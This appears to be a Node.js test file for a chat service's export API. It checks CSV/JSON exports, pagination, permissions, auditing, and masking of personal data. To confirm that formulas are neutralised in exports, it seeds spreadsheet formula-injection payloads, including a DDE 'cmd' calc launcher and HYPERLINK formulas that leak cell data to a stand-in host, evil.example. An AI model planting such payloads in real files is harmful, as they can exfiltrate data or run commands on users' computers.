// Exports: a seeded data set comes back exactly, across pages, as CSV (formulas kept inert for
// spreadsheets) and JSON; only those allowed may export; every export is audited.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer } from './support/server.mjs';
import { agentLogin, createAgent, fullHistory, http, msgId, newConversation, sleep, visitorSession } from './support/client.mjs';

const GENEROUS = { RATE_VISITOR_MESSAGES: '5000/500', RATE_AGENT_MESSAGES: '5000/500', RATE_IP_MESSAGES: '5000/500' };
let server;
let owner;
const sent = []; // { conversation, text }

/** Parses RFC 4180 CSV (quoted fields, doubled quotes, CRLF). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 1; } else field += c;
  }
  return rows;
}

before(async () => {
  server = await startServer({ vars: GENEROUS });
  owner = await agentLogin(server);
  const payloads = ['=HYPERLINK("http://evil.example","click")', '+cmd|" /C calc"!A0', '@SUM(1+1)', 'plain, with comma', 'line\nbreak "quoted"', '你好，世界'];
  for (let c = 0; c < 3; c += 1) {
    const conv = await newConversation(server);
    for (let i = 0; i < 400; i += 1) {
      const text = i < payloads.length ? payloads[i] : `message ${c}/${i}`;
      const res = await http(server.url, `/api/v1/conversations/${conv.conversation}/messages`, {
        method: 'POST', token: conv.token, body: { client_msg_id: msgId('x'), text },
      });
      assert.equal(res.status, 200);
      sent.push({ conversation: conv.conversation, token: conv.token, text });
    }
  }
  // Wait for the D1 mirror to hold everything (3 × (1 created + 400 messages)).
  for (let i = 0; i < 200; i += 1) {
    const { results: [row] } = await server.d1('SELECT COUNT(*) AS n FROM messages');
    if (row.n >= 3 * 401) break;
    await sleep(200);
  }
});

after(async () => {
  await server?.stop();
});

test('messages export as CSV equals the seeded data, across pages, with formulas kept as text', async () => {
  const res = await fetch(`${server.url}/api/v1/export/messages.csv`, { headers: { authorization: `Bearer ${owner.token}` } });
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-type'), /^text\/csv/);
  assert.match(res.headers.get('content-disposition'), /^attachment;/);
  const rows = parseCsv(await res.text());
  const [header, ...data] = rows;
  assert.deepEqual(header, ['conversation_id', 'seq', 'created_at', 'site_id', 'visitor_id', 'kind', 'author_role', 'author_id', 'author_name', 'text']);
  const messages = data.filter((r) => r[5] === 'message');
  assert.equal(messages.length, sent.length);
  assert.equal(data.length, sent.length + 3, 'plus one created event per conversation');
  // Every exported text equals what was sent, except that formula starts carry an apostrophe.
  const exported = messages.map((r) => r[9]);
  const expected = sent.map((s) => (/^[=+\-@\t\r]/.test(s.text) ? `'${s.text}` : s.text));
  assert.deepEqual(exported.sort(), expected.sort());
  for (const text of exported) assert.ok(!/^[=+\-@]/.test(text), `formula left active: ${text}`);
  // Compare one conversation row by row with its log.
  const one = sent[0];
  const log = await fullHistory(server, one.conversation, owner.token);
  const mine = data.filter((r) => r[0] === one.conversation);
  assert.deepEqual(mine.map((r) => Number(r[1])), log.map((e) => e.seq));
  assert.deepEqual(mine.map((r) => r[2]), log.map((e) => new Date(e.at).toISOString()));
});

test('conversations export as JSON, filtered by a date range', async () => {
  const all = await fetch(`${server.url}/api/v1/export/conversations.json`, { headers: { authorization: `Bearer ${owner.token}` } });
  const list = await all.json();
  assert.equal(list.length, 3);
  assert.deepEqual(new Set(list.map((c) => c.id)), new Set(sent.map((s) => s.conversation)));
  const none = await fetch(`${server.url}/api/v1/export/conversations.json?from=2001-01-01&to=2001-01-02`, { headers: { authorization: `Bearer ${owner.token}` } });
  assert.deepEqual(await none.json(), []);
  const bad = await http(server.url, '/api/v1/export/conversations.json?from=yesterday', { token: owner.token });
  assert.equal(bad.status, 400);
  assert.equal(bad.body.code, 'invalid_request');
});

test('only owners, admins and agents with the export permission may export; exports are audited', async () => {
  const plain = await createAgent(server, { name: 'Plain', email: 'plain@parley.local' });
  const refused = await http(server.url, '/api/v1/export/messages.csv', { token: plain.token });
  assert.equal(refused.status, 403);
  assert.equal(refused.body.code, 'forbidden');
  const visitor = await http(server.url, '/api/v1/export/messages.csv', { token: sent[0].token });
  assert.equal(visitor.status, 403);
  const exporter = await createAgent(server, { name: 'Exporter', email: 'exporter@parley.local', permissions: ['export'] });
  const ok = await fetch(`${server.url}/api/v1/export/messages.json`, { headers: { authorization: `Bearer ${exporter.token}` } });
  assert.equal(ok.status, 200);
  const rows = await ok.json();
  assert.equal(rows.length, sent.length + 3);
  const audit = await fetch(`${server.url}/api/v1/export/audit.csv`, { headers: { authorization: `Bearer ${owner.token}` } });
  const auditRows = parseCsv(await audit.text()).slice(1);
  const exports = auditRows.filter((r) => r[3] === 'export');
  assert.ok(exports.length >= 3);
  assert.ok(exports.some((r) => r[2] === exporter.agentId && r[4] === 'messages'));
});

test('names that are formulas (an agent named =HYPERLINK(…), files named +, -, @ and = …) export as inert text in CSV and exactly in JSON', async () => {
  const from = Date.now() - 1;
  const names = {
    agent: '=HYPERLINK("http://evil.example/?leak="&A1,"Support")',
    files: ['=1+1.pdf', '+cmd.pdf', '-2+3.pdf', '@SUM(A1).pdf'],
  };
  const added = await http(server.url, '/api/v1/agents', {
    method: 'POST', token: owner.token, body: { email: 'formula@parley.local', name: names.agent, password: 'formula agent password' },
  });
  assert.equal(added.status, 201, JSON.stringify(added.body));
  const signedIn = await http(server.url, '/api/v1/agent/login', { method: 'POST', body: { email: 'formula@parley.local', password: 'formula agent password' } });
  assert.equal(signedIn.status, 200, JSON.stringify(signedIn.body));
  const agentToken = signedIn.body.token;
  const conv = await newConversation(server);
  const reply = await http(server.url, `/api/v1/conversations/${conv.conversation}/messages`, {
    method: 'POST', token: agentToken, body: { client_msg_id: msgId('fa'), text: 'a plain reply' },
  });
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  const stored = [];
  for (const name of names.files) {
    const up = await fetch(`${server.url}/api/v1/conversations/${conv.conversation}/files?name=${encodeURIComponent(name)}`, {
      method: 'POST', headers: { authorization: `Bearer ${conv.token}`, 'content-type': 'application/pdf' }, body: '%PDF-1.4\n%%EOF\n',
    });
    const body = await up.json();
    assert.equal(up.status, 201, JSON.stringify(body));
    stored.push(body.file.name);
    const post = await http(server.url, `/api/v1/conversations/${conv.conversation}/messages`, {
      method: 'POST', token: conv.token, body: { client_msg_id: msgId('ff'), file: body.file.id },
    });
    assert.equal(post.status, 200, JSON.stringify(post.body));
  }
  // The names are kept as given (only cleaned of paths and controls): they still start a formula.
  assert.deepEqual(stored, names.files);
  const head = 2 + names.files.length; // created, reply, files
  for (let i = 0; i < 100; i += 1) {
    const { results: [row] } = await server.d1('SELECT COUNT(*) AS n FROM messages WHERE conversation_id = ?1', [conv.conversation]);
    if (row.n >= head) break;
    await sleep(100);
  }
  const csv = await fetch(`${server.url}/api/v1/export/messages.csv?from=${from}`, { headers: { authorization: `Bearer ${owner.token}` } });
  assert.equal(csv.status, 200);
  const rows = parseCsv(await csv.text()).slice(1).filter((r) => r[0] === conv.conversation);
  assert.equal(rows.length, head);
  const byKind = (kind) => rows.filter((r) => r[5] === kind);
  const [agentRow] = byKind('message');
  assert.equal(agentRow[6], 'agent');
  assert.equal(agentRow[8], `'${names.agent}`, 'the agent name is written with a leading apostrophe');
  assert.deepEqual(byKind('file').map((r) => r[9]), names.files.map((n) => `'${n}`));
  for (const r of rows) for (const field of r) assert.doesNotMatch(field, /^[=+\-@\t\r]/, `formula left active: ${field}`);
  // JSON has the values exactly.
  const json = await (await fetch(`${server.url}/api/v1/export/messages.json?from=${from}`, { headers: { authorization: `Bearer ${owner.token}` } })).json();
  const mine = json.filter((r) => r.conversation_id === conv.conversation);
  assert.equal(mine.find((r) => r.kind === 'message').author_name, names.agent);
  assert.deepEqual(mine.filter((r) => r.kind === 'file').map((r) => r.text), names.files);
});

test('an exporter without "view personal data" gets translations masked like the visitor messages they translate', async () => {
  // A translation as the conversation writes it to D1: the system's, with the visitor's words translated.
  const at = Date.UTC(2020, 0, 2);
  await server.d1(
    `INSERT INTO messages (conversation_id, seq, kind, author_id, author_role, author_name, body, created_at)
     VALUES (?1, 90001, 'translation', 'system', 'system', NULL, ?2, ?3)`,
    [sent[0].conversation, JSON.stringify({ of: 1, lang: 'en', text: 'write to ann.smith@example.org or call +49 30 1234 5678' }), at],
  );
  const range = `from=${at}&to=${at + 1}`;
  const exporter = await createAgent(server, { name: 'Masked exporter', email: 'masked.exporter@parley.local', permissions: ['export'], headers: { 'cf-connecting-ip': '192.0.2.41' } });
  const masked = await http(server.url, `/api/v1/export/messages.json?${range}`, { token: exporter.token });
  assert.equal(masked.status, 200);
  assert.equal(masked.body.length, 1);
  assert.equal(masked.body[0].kind, 'translation');
  assert.doesNotMatch(masked.body[0].text, /ann\.smith|1234 5678/);
  assert.match(masked.body[0].text, /^write to a\*\*\*@example\.org/);
  const whole = await http(server.url, `/api/v1/export/messages.json?${range}`, { token: owner.token });
  assert.equal(whole.body[0].text, 'write to ann.smith@example.org or call +49 30 1234 5678');
});

test('the audit log is the team\'s: asked for one site it is refused, not answered empty', async () => {
  const { results: [{ id: site }] } = await server.d1('SELECT id FROM sites LIMIT 1');
  const refused = await http(server.url, `/api/v1/export/audit.csv?site=${site}`, { token: owner.token });
  assert.equal(refused.status, 400);
  assert.equal(refused.body.code, 'invalid_request');
  assert.equal((await http(server.url, `/api/v1/export/messages.csv?site=${site}`, { token: owner.token })).status, 200, 'messages are a site\'s');
});

test('the form a conversation began with and its rating are in the export, masked for exporters without "view personal data"', async () => {
  const since = Date.now();
  const visitor = await visitorSession(server);
  const created = await http(server.url, '/api/v1/conversations', {
    method: 'POST', token: visitor.token,
    body: { form: 'prechat', fields: { name: 'Zoe', email: 'zoe.export@example.org' } },
  });
  assert.equal(created.status, 201, JSON.stringify(created.body));
  const conversation = created.body.conversation;
  assert.equal((await http(server.url, `/api/v1/conversations/${conversation}/close`, { method: 'POST', token: owner.token })).status, 200);
  const rated = await http(server.url, `/api/v1/conversations/${conversation}/rating`, {
    method: 'POST', token: visitor.token, body: { score: 4, comment: 'quick, thanks; write to zoe.export@example.org' },
  });
  assert.equal(rated.status, 200, JSON.stringify(rated.body));
  let rows = [];
  for (let i = 0; i < 100 && rows.length < 3; i += 1) {
    rows = (await http(server.url, `/api/v1/export/messages.json?from=${since}`, { token: owner.token })).body.filter((r) => r.conversation_id === conversation);
    if (rows.length < 3) await sleep(100);
  }
  const textOf = (list, kind) => list.find((r) => r.kind === kind)?.text;
  assert.equal(textOf(rows, 'created'), 'email: zoe.export@example.org\nname: Zoe');
  assert.equal(textOf(rows, 'rated'), '4/5\nquick, thanks; write to zoe.export@example.org');

  const exporter = await createAgent(server, { name: 'Form exporter', email: 'form.exporter@parley.local', permissions: ['export'], headers: { 'cf-connecting-ip': '192.0.2.42' } });
  const masked = (await http(server.url, `/api/v1/export/messages.json?from=${since}`, { token: exporter.token })).body.filter((r) => r.conversation_id === conversation);
  assert.equal(textOf(masked, 'created'), 'email: z***@example.org\nname: Zoe');
  assert.equal(textOf(masked, 'rated'), '4/5\nquick, thanks; write to z***@example.org');
});

test('an export across several pages holds exactly the team\'s rows (of the site asked for), while another team has rows in the same milliseconds', async () => {
  // Seeded straight into D1 in a range no other test writes to: the team's first site and a
  // second one, and another team's site; conversations and messages interleaved in time with
  // several sharing each millisecond, so pages of 500 end in the middle of a millisecond.
  const start = Date.UTC(2021, 5, 1);
  const range = `from=${start}&to=${start + 1000}`;
  const { results: [{ team_id: team, id: firstSite }] } = await server.d1(
    'SELECT s.team_id, s.id FROM sites s JOIN conversations c ON c.site_id = s.id WHERE c.id = ?1', [sent[0].conversation],
  );
  const secondSite = 'site-export-second';
  const otherTeam = 'team-export-other';
  const otherSite = 'site-export-other';
  await server.d1('INSERT INTO teams (id, name, created_at) VALUES (?1, ?1, 0)', [otherTeam]);
  for (const [site, siteTeam] of [[secondSite, team], [otherSite, otherTeam]]) {
    await server.d1("INSERT INTO sites (id, team_id, site_key, name, created_at) VALUES (?1, ?2, ?1, ?1, 0)", [site, siteTeam]);
  }
  const sites = [firstSite, secondSite, otherSite];
  // 1,200 conversations, a third on each site, six per millisecond, ids out of time order.
  const conversations = Array.from({ length: 1200 }, (_, i) => ({
    id: `q${String((i * 7919) % 10007).padStart(5, '0')}`, site: sites[i % 3], at: start + Math.floor(i / 6),
  }));
  await server.d1(
    `INSERT INTO conversations (id, site_id, visitor_id, status, created_at, updated_at, last_seq)
     SELECT json_extract(value, '$.id'), json_extract(value, '$.site'), 'visitor-export', 'closed',
            json_extract(value, '$.at'), json_extract(value, '$.at'), 250
     FROM json_each(?1)`,
    [JSON.stringify(conversations)],
  );
  // 250 messages in each of the first nine conversations, one per millisecond: nine a millisecond.
  const talking = conversations.slice(0, 9);
  await server.d1(
    `WITH RECURSIVE n(seq) AS (SELECT 1 UNION ALL SELECT seq + 1 FROM n WHERE seq < 250)
     INSERT INTO messages (conversation_id, seq, kind, author_id, author_role, body, created_at)
     SELECT json_extract(c.value, '$.id'), n.seq, 'message', 'visitor-export', 'visitor',
            json_object('text', 'seeded ' || n.seq), ?2 + n.seq
     FROM json_each(?1) c CROSS JOIN n`,
    [JSON.stringify(talking), start],
  );
  // 1,200 audit entries, a third of them the other team's, seven per millisecond.
  await server.d1(
    `WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 1199)
     INSERT INTO audit_log (team_id, actor_id, action, target, created_at)
     SELECT CASE WHEN i % 3 = 2 THEN ?2 ELSE ?1 END, 'seeder', 'seeded', 'entry ' || i, ?3 + i / 7 FROM n`,
    [team, otherTeam, start],
  );

  const exportCsv = async (path) => {
    const res = await fetch(`${server.url}/api/v1/export/${path}`, { headers: { authorization: `Bearer ${owner.token}` } });
    assert.equal(res.status, 200);
    return parseCsv(await res.text()).slice(1);
  };
  const byTime = (a, b) => (a.at - b.at) || (a.key < b.key ? -1 : a.key > b.key ? 1 : (a.seq ?? 0) - (b.seq ?? 0));

  const siteOf = new Map(conversations.map((c) => [c.id, c.site]));
  const messages = talking.flatMap((c) => Array.from({ length: 250 }, (_, i) => ({ key: c.id, seq: i + 1, at: start + i + 1, site: c.site })));
  for (const site of ['', firstSite, secondSite, otherSite]) {
    const expected = messages
      // Another team's site is no site of this team: nothing, as for a site that does not exist.
      .filter((m) => m.site !== otherSite && (site === '' || m.site === site))
      .sort(byTime)
      .map((m) => [m.key, String(m.seq), new Date(m.at).toISOString(), m.site]);
    const rows = await exportCsv(`messages.csv?${range}${site ? `&site=${site}` : ''}`);
    assert.deepEqual(rows.map((r) => [r[0], r[1], r[2], r[3]]), expected, `messages of site "${site}"`);
  }
  assert.equal(messages.filter((m) => m.site !== otherSite).length, 1500, 'three pages of messages');

  const ownConversations = conversations.filter((c) => c.site !== otherSite).map((c) => ({ ...c, key: c.id })).sort(byTime);
  assert.equal(ownConversations.length, 800, 'two pages of conversations');
  const listed = await (await fetch(`${server.url}/api/v1/export/conversations.json?${range}`, { headers: { authorization: `Bearer ${owner.token}` } })).json();
  assert.deepEqual(listed.map((c) => [c.id, c.site_id, c.created_at]), ownConversations.map((c) => [c.id, siteOf.get(c.id), new Date(c.at).toISOString()]));
  const ofSecondSite = await exportCsv(`conversations.csv?${range}&site=${secondSite}`);
  assert.deepEqual(ofSecondSite.map((r) => r[0]), ownConversations.filter((c) => c.site === secondSite).map((c) => c.id));

  // The audit log in export order: by time, then by id as text within a millisecond.
  const { results: entries } = await server.d1(
    'SELECT id, created_at FROM audit_log WHERE team_id = ?1 AND created_at >= ?2 AND created_at < ?3', [team, start, start + 1000],
  );
  assert.equal(entries.length, 800, 'two pages of audit entries');
  const expectedAudit = entries.map((e) => ({ key: String(e.id), at: e.created_at })).sort(byTime).map((e) => e.key);
  assert.deepEqual((await exportCsv(`audit.csv?${range}`)).map((r) => r[0]), expectedAudit);
});

test('an export whose first page cannot be read answers 503, not a 200 cut short', async () => {
  // As on a database where the exports' indexes (migration 0017) are missing.
  await server.d1('DROP INDEX messages_by_time');
  try {
    const res = await http(server.url, '/api/v1/export/messages.csv', { token: owner.token });
    assert.equal(res.status, 503);
    assert.equal(res.body.code, 'storage_unavailable');
  } finally {
    await server.d1('CREATE INDEX messages_by_time ON messages (created_at, conversation_id, seq)');
  }
  const again = await fetch(`${server.url}/api/v1/export/messages.csv`, { headers: { authorization: `Bearer ${owner.token}` } });
  assert.equal(again.status, 200);
  await again.text();
});
